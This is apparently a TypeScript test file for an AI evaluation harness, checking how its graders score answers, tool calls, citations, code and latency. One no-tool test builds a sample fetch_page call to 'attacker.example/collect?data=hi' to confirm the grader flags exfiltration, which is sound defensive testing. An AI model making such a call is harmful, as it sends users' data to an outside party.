import { describe, expect, it } from 'vitest';
import { gradeCitation, citedNumbers } from '$lib/evals/graders/citation';
import { extractPython, gradeCode, type CodeRunner } from '$lib/evals/graders/code';
import { gradeAll, gradeLatency } from '$lib/evals/graders/grade';
import { extractJson, gradeJsonPath, parsePath } from '$lib/evals/graders/json-path';
import { gradeByModel, parseVerdict, type Judge } from '$lib/evals/graders/judge';
import {
	gradeContains,
	gradeExact,
	gradeNumeric,
	gradeRegex,
	normaliseText,
	numbersIn
} from '$lib/evals/graders/text';
import { argMatches, gradeNoTool, gradeToolCall } from '$lib/evals/graders/tool-call';
import type { EvalToolCall } from '$lib/evals/types';

// Every grader, case by case: what passes, what fails, and the reason a person reads.

const signal = new AbortController().signal;

describe('text graders', () => {
	it('normalises case, emphasis, spacing and the punctuation around an answer', () => {
		expect(normaliseText('  **Paris.**  ')).toBe('paris');
		expect(normaliseText('“Hello,   World!”')).toBe('hello, world');
		expect(normaliseText('ＡＢＣ')).toBe('abc');
	});

	it('exact: passes the same answer however it is dressed, fails another', () => {
		expect(gradeExact('**Paris.**', 'Paris').pass).toBe(true);
		const wrong = gradeExact('Lyon', 'Paris');
		expect(wrong.pass).toBe(false);
		expect(wrong.reason).toBe('Expected "Paris" (ignoring case and punctuation), got "Lyon".');
		// Without normalisation, case counts.
		expect(gradeExact('paris', 'Paris', false).pass).toBe(false);
		// An answer that says more than asked is not an exact answer.
		expect(gradeExact('The capital is Paris.', 'Paris').pass).toBe(false);
	});

	it('contains: every phrase by default, any one with `any`', () => {
		expect(gradeContains('Red, BLUE and yellow', ['red', 'blue']).pass).toBe(true);
		const missing = gradeContains('red and green', ['red', 'blue']);
		expect(missing.pass).toBe(false);
		expect(missing.reason).toContain('"blue"');
		expect(gradeContains('just blue', ['red', 'blue'], true).pass).toBe(true);
		expect(gradeContains('green', ['red', 'blue'], true).pass).toBe(false);
	});

	it('regex: matches case-insensitively by default; `absent` inverts it; a bad pattern fails', () => {
		expect(gradeRegex('It ends at 11:35.', '\\b11:35\\b').pass).toBe(true);
		expect(gradeRegex('It ends at 11:45.', '\\b11:35\\b').pass).toBe(false);
		expect(gradeRegex('hello', 'HELLO').pass).toBe(true);
		expect(gradeRegex('hello', 'HELLO', '').pass).toBe(false);
		expect(gradeRegex('All fine', 'hacked', 'i', true).pass).toBe(true);
		expect(gradeRegex('HACKED', 'hacked', 'i', true)).toMatchObject({ pass: false });
		expect(gradeRegex('x', '(unclosed').reason).toContain('not valid');
	});

	it('numeric: the last number counts, with thousands separators, signs and tolerance', () => {
		expect(numbersIn('From 1,234.5 down to −8 and 1e3')).toEqual([1234.5, -8, 1000]);
		expect(gradeNumeric('2 + 2 = 4', 4).pass).toBe(true);
		expect(gradeNumeric('The answer is 4.', 4).pass).toBe(true);
		expect(gradeNumeric('It is 5.', 4)).toMatchObject({
			pass: false,
			reason: "Expected 4; the answer's last number is 5."
		});
		expect(gradeNumeric('No idea.', 4).reason).toContain('has no number');
		expect(gradeNumeric('$0.05', 0.05, 0.001).pass).toBe(true);
		expect(gradeNumeric('$0.10', 0.05, 0.001).pass).toBe(false);
		expect(gradeNumeric('7,006,652', 7006652).pass).toBe(true);
		expect(gradeNumeric('0.30000000000000004', 0.3).pass).toBe(true);
	});
});

describe('json-path grader', () => {
	it('finds JSON in a fence or inline, and reads a path', () => {
		expect(extractJson('Here:\n```json\n{"a": [1, {"b": 2}]}\n```')).toEqual({ a: [1, { b: 2 }] });
		expect(extractJson('Sure! {"name": "Ada", "age": 36} Anything else?')).toEqual({
			name: 'Ada',
			age: 36
		});
		expect(extractJson('{not json} then [1, 2]')).toEqual([1, 2]);
		expect(parsePath('$.a[1].b')).toEqual(['a', 1, 'b']);
		expect(parsePath('a.1.b')).toEqual(['a', 1, 'b']);
	});

	it('passes the right value, fails a wrong, missing or absent one', () => {
		const answer = '{"name": "Ada", "age": 36, "tags": ["x"]}';
		expect(gradeJsonPath(answer, '$.age', 36).pass).toBe(true);
		expect(gradeJsonPath(answer, '$.tags', ['x']).pass).toBe(true);
		expect(gradeJsonPath(answer, '$.age', 37)).toMatchObject({
			pass: false,
			reason: '$.age should be 37, it is 36.'
		});
		expect(gradeJsonPath(answer, '$.city', 'Paris').reason).toContain('nothing at $.city');
		expect(gradeJsonPath('Ada is 36.', '$.age', 36).reason).toContain('holds no JSON');
	});
});

const call = (name: string, args: unknown, over: Partial<EvalToolCall> = {}): EvalToolCall => ({
	turn: 0,
	name,
	args,
	status: 'done',
	...over
});

describe('tool-call grader (argument normalisation)', () => {
	it('the roadmap case: web_search with the query, however it was capitalised or punctuated', () => {
		const calls = [call('web_search', { query: 'Python Tutorials.' })];
		expect(
			gradeToolCall(calls, 'web_search', { query: { matches: 'python.*tutorial' } }).pass
		).toBe(true);
		expect(gradeToolCall(calls, 'web_search', { query: 'python tutorials' }).pass).toBe(true);
	});

	it('numbers given as text, key spelling, order and extra arguments do not matter', () => {
		const calls = [call('weather', { Place: 'paris ', days: '3', units: 'metric' })];
		expect(gradeToolCall(calls, 'weather', { place: 'Paris', days: 3 }).pass).toBe(true);
		expect(argMatches(true, 'true')).toBe(true);
		expect(argMatches({ near: 11.61, tolerance: 0.01 }, '11.6')).toBe(true);
		expect(argMatches({ near: 11.61, tolerance: 0.001 }, 11.6)).toBe(false);
		expect(argMatches({ is: { a: ['X'] } }, { a: ['x'], b: 1 })).toBe(true);
		expect(argMatches({ present: true }, '')).toBe(false);
	});

	it('raw argument text that never validated is read as JSON when it can be', () => {
		const calls = [call('calculator', '{"expression":"1234*5678"}', { status: 'error' })];
		expect(gradeToolCall(calls, 'calculator', { expression: { contains: '5678' } }).pass).toBe(
			true
		);
		expect(
			gradeToolCall([call('calculator', '{broken')], 'calculator', { expression: 'x' }).pass
		).toBe(false);
	});

	it('fails the wrong tool, the wrong arguments, no call at all, and the wrong turn', () => {
		const wrongTool = gradeToolCall([call('fetch_page', { url: 'x' })], 'web_search', {
			query: 'python'
		});
		expect(wrongTool.pass).toBe(false);
		expect(wrongTool.reason).toContain('the calls were fetch_page');
		const wrongArgs = gradeToolCall([call('web_search', { query: 'java' })], 'web_search', {
			query: { contains: 'python' }
		});
		expect(wrongArgs).toMatchObject({ pass: false });
		expect(wrongArgs.reason).toContain('where query did not match');
		expect(gradeToolCall([], 'web_search').reason).toContain('no tool was called');
		const later = [call('remember', { text: 'teal' }, { turn: 1 })];
		expect(gradeToolCall(later, 'remember', {}, 0).pass).toBe(false);
		expect(gradeToolCall(later, 'remember', {}, 1).pass).toBe(true);
	});

	it('no-tool: any call counts, even one refused; with args only the matching ones', () => {
		expect(gradeNoTool([call('read_file', {})], ['write_file']).pass).toBe(true);
		const refused = gradeNoTool(
			[call('write_file', { path: 'x' }, { status: 'denied' })],
			['write_file']
		);
		expect(refused.pass).toBe(false);
		expect(refused.reason).toContain('[denied]');
		const fetches = [call('fetch_page', { url: 'https://example.org/a' })];
		expect(gradeNoTool(fetches, ['fetch_page'], { url: { contains: 'attacker' } }).pass).toBe(true);
		fetches.push(call('fetch_page', { url: 'https://attacker.example/collect?data=hi' }));
		expect(gradeNoTool(fetches, ['fetch_page'], { url: { contains: 'attacker' } }).pass).toBe(
			false
		);
	});
});

describe('citation grader', () => {
	const search = call(
		'search_knowledge',
		{ query: 'printer' },
		{
			sources: [
				{ title: 'Office guide', url: 'hearth-doc:doc-office#chunk=office-support' },
				{ title: 'Office guide', url: 'hearth-doc:doc-office#chunk=office-printer' }
			]
		}
	);

	it('reads [n], [1, 2] and [1][2]', () => {
		expect(citedNumbers('See [1] and [2, 3][4].')).toEqual([1, 2, 3, 4]);
	});

	it('passes a citation of the right passage, fails the wrong one or none', () => {
		expect(gradeCitation('It is Kestrel [2].', [search], 'office-printer', 0).pass).toBe(true);
		expect(gradeCitation('It is Kestrel [1].', [search], 'office-printer', 0)).toMatchObject({
			pass: false,
			reason: 'Cites [1]; passage office-printer was [2].'
		});
		expect(gradeCitation('It is Kestrel.', [search], 'office-printer', 0).reason).toContain(
			'No citation'
		);
		expect(gradeCitation('[1]', [], 'office-printer', 0).reason).toBe(
			'The documents were never searched.'
		);
		expect(gradeCitation('[1]', [search], 'office-wifi', 0).reason).toContain('did not find');
		// Numbering is that of the final turn's search.
		expect(gradeCitation('[2]', [search], 'office-printer', 1).pass).toBe(false);
	});
});

describe('code grader', () => {
	it('takes the last python block, else any block, else a bare definition', () => {
		expect(extractPython('```js\nx\n```\n```python\ndef f(): pass\n```')).toBe('def f(): pass\n');
		expect(extractPython('```\ndef g(): pass\n```')).toBe('def g(): pass\n');
		expect(extractPython('def h():\n    return 1')).toBe('def h():\n    return 1');
		expect(extractPython('No code here.')).toBeUndefined();
	});

	it('passes when the runner says the tests passed, fails with the error, or without code', async () => {
		const ran: string[] = [];
		const runner: CodeRunner = {
			run: async (code) => {
				ran.push(code);
				return code.includes('return 2')
					? { ok: true, output: '' }
					: { ok: false, output: '', error: 'AssertionError: ' };
			}
		};
		const good = await gradeCode(
			'```python\ndef two():\n    return 2\n```',
			'assert two() == 2',
			runner,
			signal
		);
		expect(good.pass).toBe(true);
		expect(ran[0]).toBe('def two():\n    return 2\n\n\nassert two() == 2\n');
		const bad = await gradeCode(
			'```python\ndef two():\n    return 3\n```',
			'assert two() == 2',
			runner,
			signal
		);
		expect(bad).toMatchObject({ pass: false, reason: 'The hidden tests fail: AssertionError:' });
		expect((await gradeCode('Sorry.', 'x', runner, signal)).reason).toContain('no Python');
		expect((await gradeCode('```python\nx\n```', 'x', undefined, signal)).reason).toContain(
			'No Python sandbox'
		);
	});
});

describe('latency grader', () => {
	it('passes within the goals and names the goal it missed', () => {
		expect(gradeLatency({ totalMs: 900, timeToFirstTokenMs: 300 }, 1000, 2000).pass).toBe(true);
		expect(gradeLatency({ totalMs: 900, timeToFirstTokenMs: 1300 }, 1000)).toMatchObject({
			pass: false,
			reason: 'Too slow: first token after 1300 ms (goal 1000 ms).'
		});
		expect(gradeLatency({ totalMs: 900 }, 1000).reason).toContain('no text arrived');
		expect(gradeLatency(undefined, undefined, 10).pass).toBe(false);
	});
});

describe('model-graded check', () => {
	const judge = (reply: { pass: boolean; reason: string } | Error): Judge => ({
		label: 'Judge model',
		judge: async () => {
			if (reply instanceof Error) throw reply;
			return reply;
		}
	});
	const input = { question: 'q', answer: 'a', rubric: 'r' };

	it('is labelled, and skipped (not counted) without a judge', async () => {
		const skipped = await gradeByModel(undefined, input, signal);
		expect(skipped).toMatchObject({ skipped: true, modelGraded: true });
		const verdict = await gradeByModel(judge({ pass: false, reason: 'Too vague.' }), input, signal);
		expect(verdict).toMatchObject({
			pass: false,
			modelGraded: true,
			reason: 'Model-graded by Judge model: Too vague.'
		});
		expect((await gradeByModel(judge(new Error('down')), input, signal)).pass).toBe(false);
	});

	it('reads a verdict, and refuses one that is not', () => {
		expect(parseVerdict('Sure: {"pass": true, "reason": "ok"}')).toEqual({
			pass: true,
			reason: 'ok'
		});
		expect(parseVerdict('yes').pass).toBe(false);
	});

	it('a case passes only when every counted grader passes; a skipped one never decides', async () => {
		const base = { question: 'q', toolCalls: [], finalTurn: 0 };
		const both = await gradeAll(
			[
				{ kind: 'exact', expected: '4' },
				{ kind: 'model', rubric: 'says four' }
			],
			{ ...base, answer: '4' },
			{ signal }
		);
		expect(both.pass).toBe(true);
		expect(both.results.map((r) => r.skipped ?? false)).toEqual([false, true]);
		const failing = await gradeAll(
			[
				{ kind: 'exact', expected: '4' },
				{ kind: 'model', rubric: 'x' }
			],
			{ ...base, answer: '4' },
			{ signal, judge: judge({ pass: false, reason: 'no' }) }
		);
		expect(failing.pass).toBe(false);
		const onlyModel = await gradeAll(
			[{ kind: 'model', rubric: 'x' }],
			{ ...base, answer: '4' },
			{ signal }
		);
		expect(onlyModel.pass).toBe(false);
	});
});
